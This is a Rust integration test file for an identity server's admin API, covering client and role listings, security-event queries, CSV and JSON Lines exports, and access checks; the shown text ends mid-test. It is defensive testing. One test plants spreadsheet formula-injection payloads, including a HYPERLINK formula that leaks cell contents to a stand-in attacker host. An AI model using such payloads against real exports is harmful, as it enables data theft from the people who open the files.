//! The admin API's read-only realm views and the security log over HTTP: clients (never a
//! secret or its hash), realm roles and the users holding them, and `GET …/events` with its
//! filters, `Link` paging, JSON Lines and CSV exports, 400s for bad parameters and 401/403 for
//! callers who may not read the realm. Events come from real sign-ins and a real admin call.

use std::collections::HashSet;

use crate::support::rp::{self, RpHttp, chain};
use crate::support::signin::{self, Shown, SignIn};
use crate::support::*;
use gatehouse::store::NewEvent;
use openidconnect::OAuth2TokenResponse;
use reqwest::StatusCode;
use reqwest::header::HeaderMap;
use serde_json::{Value, json};

/// The master realm: `admin` and a realm-scoped role, an admin web client for people, a service
/// account with `admin`, and one without any role.
const MASTER: &str = r#"realm: master
roles: [admin, flows-admin]
clients:
  - client_id: web
    secret_hash: sha256:3ab4454e637528a72b8b1c26412e8f13cde28bd7c4d15d9757329208e8cea5a7
    redirect_uris: [http://127.0.0.1:9000/callback]
    grant_types: [authorization_code, refresh_token]
    admin_api: true
  - client_id: pipeline
    secret_hash: sha256:3ab4454e637528a72b8b1c26412e8f13cde28bd7c4d15d9757329208e8cea5a7
    grant_types: [client_credentials]
    service_account_roles: [admin]
  - client_id: bystander
    secret_hash: sha256:3ab4454e637528a72b8b1c26412e8f13cde28bd7c4d15d9757329208e8cea5a7
    grant_types: [client_credentials]
"#;

/// The hex SHA-256 of [`WEB_SECRET`], as the realm files hold it.
const WEB_SECRET_HASH: &str = "3ab4454e637528a72b8b1c26412e8f13cde28bd7c4d15d9757329208e8cea5a7";

/// A user agent that needs CSV quoting: a comma and quotes.
const ODD_AGENT: &str = "Mozilla/5.0 (X11, Linux) \"Quoted\" Browser";

/// `master`, and the flow tests' realm `flows` with two roles and a public client added.
async fn start(db: Db) -> Harness {
    Harness::start_with(db, MASTER, |dir, _| {
        let flows = signin::standard_flow_realm().replace("realm: flows\n", "realm: flows\nroles: [auditor, clerk]\n")
            + "  - client_id: spa\n    redirect_uris: [http://127.0.0.1:9001/cb]\n"
            + "    grant_types: [authorization_code]\n";
        std::fs::write(dir.join("realms/flows.yaml"), flows).unwrap();
    })
    .await
}

/// A master-realm access token of a service-account client, by the `openidconnect` crate.
async fn service_token(h: &Harness, client_id: &str) -> String {
    let http = RpHttp::new();
    let metadata = rp::discover(&http, &h.issuer()).await;
    let client = rp::client(&metadata, client_id, Some(WEB_SECRET), WEB_REDIRECT);
    let response = client
        .exchange_client_credentials()
        .expect("a token endpoint")
        .request_async(&http)
        .await
        .unwrap_or_else(|e| panic!("client_credentials failed: {}", chain(&e)));
    response.access_token().secret().clone()
}

/// `GET {url}{path}` (path starting at `/admin/…`, or a full URL) with an optional token.
async fn get(h: &Harness, path: &str, token: Option<&str>) -> (StatusCode, HeaderMap, String) {
    let url = if path.starts_with("http") {
        path.to_string()
    } else {
        format!("{}{path}", h.url)
    };
    let mut request = reqwest::Client::new().get(&url);
    if let Some(t) = token {
        request = request.bearer_auth(t);
    }
    let response = request.send().await.expect("admin request");
    let (status, headers) = (response.status(), response.headers().clone());
    (status, headers, response.text().await.expect("a body"))
}

/// `GET` expecting 200 and a JSON body.
async fn get_json(h: &Harness, path: &str, token: &str) -> Value {
    let (status, _, body) = get(h, path, Some(token)).await;
    assert_eq!(status, StatusCode::OK, "{path}: {body}");
    serde_json::from_str(&body).unwrap_or_else(|e| panic!("{path}: not JSON ({e}): {body}"))
}

fn strings(v: &Value, field: &str) -> Vec<String> {
    v.as_array()
        .unwrap_or_else(|| panic!("not an array: {v}"))
        .iter()
        .map(|x| {
            x[field]
                .as_str()
                .unwrap_or_else(|| panic!("no {field}: {x}"))
                .to_string()
        })
        .collect()
}

fn ids(v: &Value) -> Vec<i64> {
    v.as_array()
        .unwrap_or_else(|| panic!("not an array: {v}"))
        .iter()
        .map(|e| e["id"].as_i64().expect("an id"))
        .collect()
}

/// The URL of a `Link: <URL>; rel="next"` header.
fn next_link(headers: &HeaderMap) -> Option<String> {
    let link = headers.get("link")?.to_str().expect("a Link header is ASCII");
    let url = link.strip_prefix('<')?.split_once(">; rel=\"next\"")?.0;
    Some(url.to_string())
}

/// RFC 4180 records (quoted fields may hold commas, quotes and line breaks).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && row.is_empty(),
        "CSV does not end with a complete row"
    );
    rows
}

async fn event_count(h: &Harness, realm: &str, condition: &str) -> usize {
    let rows = h
        .query(&format!("SELECT id FROM events WHERE realm = '{realm}' {condition}"))
        .await;
    rows.len()
}

db_test!(async fn clients_are_listed_as_keycloak_shows_them_without_secrets(db) {
    let h = start(db).await;
    let token = service_token(&h, "pipeline").await;
    let (status, _, text) = get(&h, "/admin/realms/flows/clients", Some(&token)).await;
    assert_eq!(status, StatusCode::OK, "{text}");
    let clients: Value = serde_json::from_str(&text).unwrap();
    // Every realm has the built-in account console's client, as Keycloak lists its own.
    assert_eq!(strings(&clients, "clientId"), ["account-console", "idf", "spa", "web"], "{clients}");
    assert_eq!(clients[0]["publicClient"], true);
    assert_eq!(clients[0]["redirectUris"], json!([format!("{}/realms/flows/account/callback", h.url)]));
    let web = &clients[3];
    assert_eq!(web["id"], "web");
    assert_eq!(web["publicClient"], false);
    assert_eq!(web["redirectUris"], json!([WEB_REDIRECT]));
    assert_eq!(web["postLogoutRedirectUris"], json!([]));
    assert_eq!(web["grantTypes"], json!(["authorization_code", "refresh_token"]));
    assert_eq!(web["pkce"], "required");
    assert_eq!(web["browserFlow"], Value::Null);
    assert_eq!(web["serviceAccountRoles"], json!([]));
    assert_eq!(web["adminApi"], false);
    assert_eq!(clients[1]["browserFlow"], "identifier-first");
    assert_eq!(clients[2]["publicClient"], true);

    // Neither a secret nor its hash, anywhere, in any realm's listing or single read.
    let (_, _, master) = get(&h, "/admin/realms/master/clients", Some(&token)).await;
    let (_, _, one) = get(&h, "/admin/realms/flows/clients/web", Some(&token)).await;
    for body in [&text, &master, &one] {
        for leak in [WEB_SECRET, WEB_SECRET_HASH, "sha256:", "secret"] {
            assert!(!body.contains(leak), "{leak:?} in {body}");
        }
    }
    let master: Value = serde_json::from_str(&master).unwrap();
    let pipeline = master.as_array().unwrap().iter().find(|c| c["clientId"] == "pipeline").expect("pipeline");
    assert_eq!(pipeline["serviceAccountRoles"], json!(["admin"]));
    assert_eq!(pipeline["grantTypes"], json!(["client_credentials"]));
    let admin_web = master.as_array().unwrap().iter().find(|c| c["clientId"] == "web").expect("web");
    assert_eq!(admin_web["adminApi"], true);

    // Keycloak's `clientId` filter: exact, or a substring with `search=true`.
    let only = get_json(&h, "/admin/realms/flows/clients?clientId=idf", &token).await;
    assert_eq!(strings(&only, "clientId"), ["idf"]);
    let none = get_json(&h, "/admin/realms/flows/clients?clientId=id", &token).await;
    assert_eq!(none, json!([]));
    let some = get_json(&h, "/admin/realms/flows/clients?clientId=e&search=true", &token).await;
    assert_eq!(strings(&some, "clientId"), ["account-console", "web"]);
    // As Keycloak's clients write it: booleans in any case, parameters Gatehouse has no use for.
    let lenient = get_json(&h, "/admin/realms/flows/clients?clientId=e&search=True&viewableOnly=true", &token).await;
    assert_eq!(lenient, some);
    let paged = get_json(&h, "/admin/realms/flows/clients?first=2&max=1", &token).await;
    assert_eq!(strings(&paged, "clientId"), ["spa"]);

    let one: Value = serde_json::from_str(&one).unwrap();
    assert_eq!(one, clients[3]);
    for (path, status) in [
        ("/admin/realms/flows/clients/nope", StatusCode::NOT_FOUND),
        ("/admin/realms/nowhere/clients", StatusCode::NOT_FOUND),
        ("/admin/realms/nowhere/clients/web", StatusCode::NOT_FOUND),
        ("/admin/realms/flows/clients?max=lots", StatusCode::BAD_REQUEST),
        ("/admin/realms/flows/clients?q=team:web", StatusCode::BAD_REQUEST),
    ] {
        let (got, _, body) = get(&h, path, Some(&token)).await;
        assert_eq!(got, status, "{path}: {body}");
        assert!(serde_json::from_str::<Value>(&body).is_ok_and(|v| v["errorMessage"].is_string()), "{body}");
    }
});

db_test!(async fn roles_and_the_users_holding_them(db) {
    let mut h = start(db).await;
    let token = service_token(&h, "pipeline").await;
    let roles = get_json(&h, "/admin/realms/flows/roles", &token).await;
    assert_eq!(
        roles,
        json!([
            { "name": "auditor", "composite": false, "clientRole": false },
            { "name": "clerk", "composite": false, "clientRole": false }
        ])
    );
    let searched = get_json(&h, "/admin/realms/flows/roles?search=cle", &token).await;
    assert_eq!(strings(&searched, "name"), ["clerk"]);
    let clerk = get_json(&h, "/admin/realms/flows/roles/clerk", &token).await;
    assert_eq!(clerk["name"], "clerk");

    // Holders in `flows`, and a `master` user holding a role of the same name (not shown).
    let outsider = h.add_user("mallory", "mallory@example.com", PASSWORD).await;
    h.state.store.grant_role(&outsider, "auditor").await.unwrap();
    h.realm = "flows".into();
    let mut id = std::collections::HashMap::new();
    for name in ["carol", "alice", "bob"] {
        id.insert(name, h.add_user(name, &format!("{name}@example.com"), PASSWORD).await);
    }
    for (user, role) in [("carol", "auditor"), ("alice", "auditor"), ("bob", "clerk")] {
        h.state.store.grant_role(&id[user], role).await.unwrap();
    }
    let auditors = get_json(&h, "/admin/realms/flows/roles/auditor/users", &token).await;
    assert_eq!(strings(&auditors, "username"), ["alice", "carol"], "{auditors}");
    assert_eq!(auditors[0]["id"], id["alice"].as_str());
    assert_eq!(auditors[0]["email"], "alice@example.com");
    let second = get_json(&h, "/admin/realms/flows/roles/auditor/users?first=1&max=1", &token).await;
    assert_eq!(strings(&second, "username"), ["carol"]);
    let clerks = get_json(&h, "/admin/realms/flows/roles/clerk/users", &token).await;
    assert_eq!(strings(&clerks, "username"), ["bob"]);
    // `admin` is a master role: in `flows` it does not exist.
    for (path, status) in [
        ("/admin/realms/flows/roles/admin", StatusCode::NOT_FOUND),
        ("/admin/realms/flows/roles/nope/users", StatusCode::NOT_FOUND),
        ("/admin/realms/nowhere/roles", StatusCode::NOT_FOUND),
        ("/admin/realms/flows/roles/clerk/users?max=-1", StatusCode::BAD_REQUEST),
        // Keycloak's clients send parameters Gatehouse has no use for: ignored, as there.
        ("/admin/realms/flows/roles?briefRepresentation=true", StatusCode::OK),
    ] {
        let (got, _, body) = get(&h, path, Some(&token)).await;
        assert_eq!(got, status, "{path}: {body}");
    }
});

db_test!(async fn the_security_log_is_queried_paged_and_exported(db) {
    let mut h = start(db).await;
    let token = service_token(&h, "pipeline").await;
    h.realm = "flows".into();
    let alice = h.add_user(USERNAME, EMAIL, PASSWORD).await;
    // A user created through the admin API, a failed sign-in from an odd user agent, a
    // successful one, and an event of two days ago.
    let created = reqwest::Client::new()
        .post(format!("{}/admin/realms/flows/users", h.url))
        .bearer_auth(&token)
        .json(&json!({ "username": "dora" }))
        .send()
        .await
        .unwrap();
    assert_eq!(created.status(), StatusCode::CREATED);
    let odd = reqwest::Client::builder()
        .cookie_store(true)
        .user_agent(ODD_AGENT)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let mut s = SignIn::start(&h, &odd, WEB_CLIENT).await;
    s.log_in(USERNAME, "Not-The-Password-1").await;
    s.expect(Shown::Login);
    signin::password_sign_in(&h, WEB_CLIENT, USERNAME, PASSWORD).await;
    let old = NewEvent {
        realm: "flows".into(),
        kind: "logout".into(),
        user_id: Some(alice.clone()),
        details: json!({}),
        ..Default::default()
    };
    h.state.store.insert_event_at(old, gatehouse::store::now() - 2 * 86_400).await.unwrap();
    let total = event_count(&h, "flows", "").await;
    assert!(total >= 5, "{total}");

    // Everything, newest first (the old event last), with Keycloak-like names.
    let all = get_json(&h, "/admin/realms/flows/events?max=1000", &token).await;
    assert_eq!(ids(&all).len(), total, "{all}");
    assert_eq!(all[total - 1]["type"], "logout");
    let sign_in = all.as_array().unwrap().iter().find(|e| e["type"] == "sign_in").expect("a sign_in event");
    let keys: HashSet<&str> = sign_in.as_object().unwrap().keys().map(String::as_str).collect();
    let expected = [
        "id", "time", "type", "realm", "userId", "username", "clientId", "ipAddress", "userAgent", "details",
    ];
    assert_eq!(keys, expected.into_iter().collect(), "{sign_in}");
    assert_eq!(sign_in["username"], USERNAME);
    assert_eq!(sign_in["userId"], alice.as_str());
    assert_eq!(sign_in["clientId"], WEB_CLIENT);
    assert_eq!(sign_in["ipAddress"], "127.0.0.1");
    assert!(gatehouse::events::time::parse_rfc3339(sign_in["time"].as_str().unwrap()).is_some(), "{sign_in}");
    let default_page = get_json(&h, "/admin/realms/flows/events", &token).await;
    assert_eq!(default_page, all, "the default page (100) holds them all");

    // By user (name or id), by types, by time.
    let by_name = get_json(&h, "/admin/realms/flows/events?user=alice", &token).await;
    assert_eq!(ids(&by_name).len(), event_count(&h, "flows", &format!("AND user_id = '{alice}'")).await);
    assert!(by_name.as_array().unwrap().iter().all(|e| e["userId"] == alice.as_str()), "{by_name}");
    let by_id = get_json(&h, &format!("/admin/realms/flows/events?user={alice}"), &token).await;
    assert_eq!(ids(&by_id), ids(&by_name));
    let types = get_json(&h, "/admin/realms/flows/events?type=sign_in&type=login_error", &token).await;
    let kinds: HashSet<String> = strings(&types, "type").into_iter().collect();
    assert_eq!(kinds, HashSet::from(["sign_in".to_string(), "login_error".to_string()]));
    assert_eq!(ids(&types).len(), event_count(&h, "flows", "AND kind IN ('sign_in', 'login_error')").await);
    let created = get_json(&h, "/admin/realms/flows/events?type=user_created&user=dora", &token).await;
    assert_eq!(ids(&created).len(), 1, "{created}");
    assert_eq!(created[0]["details"]["by"], "client:pipeline@master");
    let recent = get_json(&h, "/admin/realms/flows/events?since=1h&max=1000", &token).await;
    assert_eq!(ids(&recent), ids(&all)[..total - 1], "since=1h leaves out the old event");
    let week = get_json(&h, "/admin/realms/flows/events?since=7d&max=1000", &token).await;
    assert_eq!(ids(&week), ids(&all));
    let older = get_json(&h, "/admin/realms/flows/events?until=1d", &token).await;
    assert_eq!(strings(&older, "type"), ["logout"]);
    let at = gatehouse::events::format_rfc3339(gatehouse::store::now() - 86_400);
    let since_at = get_json(&h, &format!("/admin/realms/flows/events?since={at}&max=1000"), &token).await;
    assert_eq!(ids(&since_at), ids(&recent));
    let (status, _, body) = get(&h, "/admin/realms/flows/events?user=nobody", Some(&token)).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");

    // Paging through `Link` covers every event once, in order, and keeps the filters.
    let mut paged = Vec::new();
    let mut url = "/admin/realms/flows/events?max=2".to_string();
    let mut pages = 0;
    loop {
        let (status, headers, body) = get(&h, &url, Some(&token)).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let page: Value = serde_json::from_str(&body).unwrap();
        assert!(ids(&page).len() <= 2);
        paged.extend(ids(&page));
        pages += 1;
        match next_link(&headers) {
            Some(next) => url = next,
            None => break,
        }
    }
    assert_eq!(paged, ids(&all));
    assert_eq!(pages, total.div_ceil(2), "no empty page at the end");
    let (_, headers, _) = get(&h, &format!("/admin/realms/flows/events?max={total}"), Some(&token)).await;
    assert_eq!(next_link(&headers), None, "a full last page links nowhere");
    let first = "/admin/realms/flows/events?type=sign_in&type=login_error&max=1";
    let (_, headers, body) = get(&h, first, Some(&token)).await;
    let next = next_link(&headers).unwrap_or_else(|| panic!("no Link: {body}"));
    assert!(next.starts_with(&h.url) && next.contains("type=sign_in&type=login_error"), "{next}");
    let second = get_json(&h, &next, &token).await;
    assert_eq!(ids(&second), ids(&types)[1..2]);

    // JSON Lines: the same events, one object per line, as an attachment.
    let (status, headers, body) = get(&h, "/admin/realms/flows/events?format=jsonl", Some(&token)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(headers["content-type"], "application/x-ndjson");
    assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment;"));
    let lines: Vec<Value> = body.lines().map(|l| serde_json::from_str(l).expect("a JSON line")).collect();
    assert_eq!(Value::Array(lines), all);

    // `gatehouse events --format jsonl` writes the very same lines (one serializer), and the
    // CSV of both is the same too.
    let cli = |format: &str| {
        let st = &h.settings;
        let mut cmd = process::gatehouse(&["events", "flows", "--format", format]);
        cmd.args(["--database-url", &st.database_url])
            .args(["--realms-dir", process::arg(&st.realms_dir)])
            .args(["--master-key-file", process::arg(&st.master_key_file)])
            .env("GATEHOUSE_MASTER_KEY", st.master_key.clone().unwrap_or_default());
        let out = process::run(cmd, None);
        assert!(out.status.success(), "{}", process::text(&out));
        String::from_utf8(out.stdout).expect("UTF-8")
    };
    assert_eq!(cli("jsonl"), body, "the CLI's and the API's JSON Lines differ");
    let (_, _, api_csv) = get(&h, "/admin/realms/flows/events?format=csv", Some(&token)).await;
    assert_eq!(cli("csv"), api_csv, "the CLI's and the API's CSV differ");

    // CSV: a header, and the odd user agent quoted so that it reads back exactly.
    let (status, headers, body) =
        get(&h, "/admin/realms/flows/events?format=csv&user=alice&type=login_error", Some(&token)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(headers["content-type"].to_str().unwrap().starts_with("text/csv"));
    assert!(headers["content-disposition"].to_str().unwrap().contains(".csv"));
    let rows = parse_csv(&body);
    assert_eq!(rows[0].join(","), gatehouse::events::export::CSV_HEADER);
    assert_eq!(rows.len(), 2, "{body}");
    assert_eq!(rows[1][3], "login_error");
    assert_eq!(rows[1][8], ODD_AGENT);
    assert!(body.contains(",\"Mozilla/5.0 (X11, Linux) \"\"Quoted\"\" Browser\","), "{body}");

    // Reading the log wrote nothing to it.
    assert_eq!(event_count(&h, "flows", "").await, total);
});

db_test!(async fn a_large_export_streams_every_event_once(db) {
    let h = start(db).await;
    let token = service_token(&h, "pipeline").await;
    // More than one page of the events module (1000), in one statement.
    let t = gatehouse::store::now();
    let values: Vec<String> = (0..1105)
        .map(|i| format!("('flows', 'seeded', NULL, NULL, NULL, 'agent, \"{i}\"', '{{\"n\":{i}}}', {})", t - i))
        .collect();
    h.sql(&format!(
        "INSERT INTO events (realm, kind, user_id, client_id, ip, user_agent, details, created_at) VALUES {}",
        values.join(",")
    ))
    .await;
    let (status, headers, body) = get(&h, "/admin/realms/flows/events?format=jsonl&type=seeded", Some(&token)).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(next_link(&headers), None);
    let ns: Vec<i64> = body
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).expect("a JSON line")["details"]["n"].as_i64().expect("n"))
        .collect();
    assert_eq!(ns, (0..1105).collect::<Vec<_>>(), "every event once, newest first");
    let (status, _, body) = get(&h, "/admin/realms/flows/events?format=csv&type=seeded", Some(&token)).await;
    assert_eq!(status, StatusCode::OK);
    let rows = parse_csv(&body);
    assert_eq!(rows.len(), 1106, "a header and every event");
    assert_eq!(rows[1105][8], "agent, \"1104\"");
    // With `max`, an export is one page with a Link onwards.
    let (_, headers, body) = get(&h, "/admin/realms/flows/events?format=csv&type=seeded&max=1000", Some(&token)).await;
    assert_eq!(parse_csv(&body).len(), 1001);
    let next = next_link(&headers).expect("a Link to the rest");
    let (_, _, rest) = get(&h, &next, Some(&token)).await;
    assert_eq!(parse_csv(&rest).len(), 106, "{next}");
    // An empty CSV still has its header.
    let (_, _, body) = get(&h, "/admin/realms/flows/events?format=csv&type=none", Some(&token)).await;
    assert_eq!(body, format!("{}\n", gatehouse::events::export::CSV_HEADER));
});

// Every admin path that takes a number, with numbers out of every range: paging parameters
// (`first`, `max`) answer 400 in the admin API's error shape; the events API's cursor and times
// answer 200 or 400. Nothing is a 5xx, a dropped connection or a panic (a `first` past the
// databases' integer range used to abort the request in the SQL layer).
db_test!(async fn out_of_range_numbers_get_400_and_never_abort_a_request(db) {
    let h = start(db).await;
    let token = service_token(&h, "pipeline").await;
    let client = reqwest::Client::new();
    let ask = |path: String| {
        let request = client.get(format!("{}{path}", h.url)).bearer_auth(&token);
        async move {
            let response = request
                .send()
                .await
                .unwrap_or_else(|e| panic!("{path}: no answer, the connection was dropped: {e}"));
            let status = response.status();
            (path, status, response.text().await.unwrap_or_default())
        }
    };
    let numbers = [
        "2147483648",
        "9223372036854775807",
        "9223372036854775808",
        "18446744073709551615",
        "18446744073709551616",
        "99999999999999999999999999",
        "-1",
        "-9223372036854775809",
        "1e3",
    ];
    let collections = ["users", "clients", "roles", "roles/auditor/users", "events"];
    let mut paging: Vec<String> = Vec::new();
    for collection in collections {
        for number in numbers.iter().chain(&["0", "1001"]) {
            paging.push(format!("/admin/realms/flows/{collection}?max={number}"));
        }
        for number in numbers.iter().filter(|_| collection != "events") {
            paging.push(format!("/admin/realms/flows/{collection}?first={number}"));
        }
    }
    for path in paging {
        let (path, status, body) = ask(path).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}: {body}");
        let body: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{path}: not JSON ({e}): {body}"));
        assert_eq!(body["error"], "invalid_request", "{path}: {body}");
        assert!(body["errorMessage"].is_string(), "{path}: {body}");
    }
    // The largest `first` still pages (past the end: nothing).
    for collection in collections.iter().filter(|c| **c != "events") {
        let path = format!("/admin/realms/flows/{collection}?first=2147483647&max=1000");
        assert_eq!(get_json(&h, &path, &token).await, json!([]), "{path}");
    }
    // The events API's cursor and times: whatever the number, a 200 or a 400, never a 5xx.
    let mut events: Vec<String> = Vec::new();
    for number in numbers.iter().chain(&["-9223372036854775808", "0"]) {
        events.push(format!("/admin/realms/flows/events?before={number}"));
    }
    for when in [
        "9223372036854775807s",
        "9223372036854775807w",
        "15250284452471w",
        "153722867280912930m",
        "0000-01-01",
        "9999-12-31T23:59:59Z",
        "9999-12-31T23:59:59-23:59",
    ] {
        for name in ["since", "until"] {
            events.push(format!("/admin/realms/flows/events?{name}={when}&max=1"));
            events.push(format!("/admin/realms/flows/events?{name}={when}&format=csv"));
        }
    }
    for path in events {
        let (path, status, body) = ask(path).await;
        assert!(
            status == StatusCode::OK || status == StatusCode::BAD_REQUEST,
            "{path}: {status} {body}"
        );
        if status == StatusCode::BAD_REQUEST {
            let body: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{path}: not JSON ({e}): {body}"));
            assert_eq!(body["error"], "invalid_request", "{path}: {body}");
        }
    }
    let metrics = reqwest::get(format!("{}/metrics", h.url)).await.unwrap().text().await.unwrap();
    assert!(metrics.contains("\ngatehouse_http_panics_total 0\n"), "{metrics}");
});

db_test!(async fn bad_event_queries_get_400_with_a_message(db) {
    let h = start(db).await;
    let token = service_token(&h, "pipeline").await;
    let cases: &[(&str, &str)] = &[
        ("since=1x", "bad duration '1x': use e.g. 30m, 1h, 7d"),
        ("until=2026-02-30", "bad time '2026-02-30'"),
        ("max=0", "bad max '0': give a number from 1 to 1000"),
        ("max=1001", "bad max '1001'"),
        ("max=ten", "bad max 'ten'"),
        ("before=yesterday", "bad before 'yesterday'"),
        ("format=xml", "bad format 'xml': use json, jsonl or csv"),
        ("since=1h&since=2h", "give 'since' at most once"),
        ("user=", "'user' is empty"),
        ("kind=sign_in", "unknown query parameter 'kind'"),
    ];
    for (query, expected) in cases {
        let (status, _, body) = get(&h, &format!("/admin/realms/flows/events?{query}"), Some(&token)).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}: {body}");
        let body: Value = serde_json::from_str(&body).expect("a JSON error");
        assert_eq!(body["error"], "invalid_request");
        let message = body["errorMessage"].as_str().unwrap_or_default();
        assert!(message.contains(expected), "{query}: {message:?} lacks {expected:?}");
    }
    let (status, _, body) = get(&h, "/admin/realms/nowhere/events", Some(&token)).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
    assert!(body.contains("unknown realm 'nowhere'"), "{body}");
});

db_test!(async fn only_admins_of_the_realm_read_its_clients_roles_and_events(db) {
    let h = start(db).await;
    let paths = ["flows/events", "flows/clients", "flows/clients/web", "flows/roles", "flows/roles/clerk/users"];
    for path in paths {
        let (status, headers, _) = get(&h, &format!("/admin/realms/{path}"), None).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{path}");
        assert!(headers.contains_key("www-authenticate"));
        let (status, _, _) = get(&h, &format!("/admin/realms/{path}"), Some("garbage")).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{path}");
    }
    let bystander = service_token(&h, "bystander").await;
    // A `flows-admin` user of the master realm reads `flows`, and nothing of `master`.
    h.add_user(USERNAME, EMAIL, PASSWORD).await;
    let id = signin::user_id(&h, USERNAME).await;
    h.state.store.grant_role(&id, "flows-admin").await.unwrap();
    let tokens = signin::password_sign_in(&h, WEB_CLIENT, USERNAME, PASSWORD).await.exchange(&h).await;
    let scoped = tokens.response.str("access_token").expect("an access token").to_string();
    for path in paths {
        let (status, _, body) = get(&h, &format!("/admin/realms/{path}"), Some(&bystander)).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{path}: {body}");
        let (status, _, body) = get(&h, &format!("/admin/realms/{path}"), Some(&scoped)).await;
        assert_eq!(status, StatusCode::OK, "{path}: {body}");
        let other = path.replacen("flows", "master", 1).replace("clerk", "admin");
        let (status, _, body) = get(&h, &format!("/admin/realms/{other}"), Some(&scoped)).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{other}: {body}");
    }
    // The exports too.
    let (status, _, _) = get(&h, "/admin/realms/master/events?format=csv", Some(&scoped)).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
});

db_test!(async fn the_openapi_document_describes_clients_roles_and_events(db) {
    let h = start(db).await;
    let doc: Value = reqwest::get(format!("{}/admin/openapi.json", h.url)).await.unwrap().json().await.unwrap();
    let paths = doc["paths"].as_object().expect("paths");
    for path in [
        "/admin/realms/{realm}/clients",
        "/admin/realms/{realm}/clients/{clientId}",
        "/admin/realms/{realm}/roles",
        "/admin/realms/{realm}/roles/{name}",
        "/admin/realms/{realm}/roles/{name}/users",
        "/admin/realms/{realm}/events",
    ] {
        let get = &paths.get(path).unwrap_or_else(|| panic!("{path} is not documented"))["get"];
        for status in ["200", "401", "403", "404"] {
            assert!(get["responses"][status].is_object(), "{path} lacks {status}: {get}");
        }
    }
    let clients = &paths["/admin/realms/{realm}/clients"]["get"];
    let events = &paths["/admin/realms/{realm}/events"]["get"];
    let description = clients["description"].as_str().unwrap_or_default();
    assert!(description.contains("gatehouse realm apply"), "{clients}");
    let params = events["parameters"].as_array().expect("parameters");
    let kind = params.iter().find(|p| p["name"] == "type").expect("a type parameter");
    assert_eq!(kind["required"], false, "{kind}");
    let names = strings(&events["parameters"], "name");
    for name in ["realm", "user", "type", "since", "until", "max", "before", "format"] {
        assert!(names.iter().any(|n| n == name), "{name} missing: {names:?}");
    }
    let schemas = &doc["components"]["schemas"];
    let client = schemas["ClientRepresentation"]["properties"].as_object().expect("ClientRepresentation");
    assert!(client.contains_key("clientId") && !client.keys().any(|k| k.contains("ecret")), "{client:?}");
    assert!(schemas["EventRepresentation"]["properties"]["ipAddress"].is_object());
});

// The CSV export neutralizes cells a spreadsheet would run as formulas (a user agent or a
// client id an attacker chose): a leading `'`, so they show as text. JSON Lines keep the
// values exactly.
db_test!(async fn csv_exports_neutralize_formula_cells(db) {
    let h = start(db).await;
    let token = service_token(&h, "pipeline").await;
    let agent = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
    let probe = NewEvent {
        realm: "flows".into(),
        kind: "csv_probe".into(),
        client_id: Some("+SUM(1,2)".into()),
        ip: Some("-1+2".into()),
        user_agent: Some(agent.into()),
        details: json!({ "note": "@cmd" }),
        ..Default::default()
    };
    h.state.store.insert_event_at(probe, gatehouse::store::now()).await.unwrap();
    let (status, _, body) = get(&h, "/admin/realms/flows/events?format=csv&type=csv_probe", Some(&token)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let rows = parse_csv(&body);
    assert_eq!(rows.len(), 2, "{body}");
    let row = &rows[1];
    assert_eq!(row[6], "'+SUM(1,2)", "{body}");
    assert_eq!(row[7], "'-1+2", "{body}");
    assert_eq!(row[8], format!("'{agent}"), "{body}");
    assert_eq!(row[9], "{\"note\":\"@cmd\"}", "details start with '{{' and stay as they are");
    assert!(body.lines().skip(1).all(|l| !l.starts_with(['=', '+', '-', '@'])), "{body}");
    let (_, _, jsonl) = get(&h, "/admin/realms/flows/events?format=jsonl&type=csv_probe", Some(&token)).await;
    let line: Value = serde_json::from_str(jsonl.trim()).expect("one JSON line");
    assert_eq!(line["userAgent"], agent);
});

db_test!(async fn admins_list_and_revoke_a_users_personal_access_tokens(db) {
    let mut h = start(db).await;
    let token = service_token(&h, "pipeline").await;
    let alice = gatehouse::admin::create_user(&h.state, "flows", USERNAME, Some(EMAIL), Some(PASSWORD))
        .await
        .expect("alice")
        .id;
    let secret = "gtp_admin-test-token-0123456789";
    h.state
        .store
        .create_pat(gatehouse::store::NewPat {
            realm: "flows".into(),
            user_id: alice.clone(),
            name: "laptop script".into(),
            token_hash: gatehouse::crypto::sha256_hex(secret.as_bytes()),
            scope: "openid email".into(),
            expires_at: gatehouse::store::now() + 3600,
        })
        .await
        .expect("a token");
    let path = format!("/admin/realms/flows/users/{alice}/personal-access-tokens");
    let listed = get_json(&h, &path, &token).await;
    assert_eq!(strings(&listed, "name"), ["laptop script"], "{listed}");
    assert!(!listed.to_string().contains(secret), "{listed}");
    let id = listed[0]["id"].as_str().expect("an id").to_string();

    let userinfo = format!("{}/realms/flows/protocol/openid-connect/userinfo", h.url);
    let works = oauth::backchannel().get(&userinfo).bearer_auth(secret).send().await.expect("userinfo");
    assert_eq!(works.status(), StatusCode::OK);

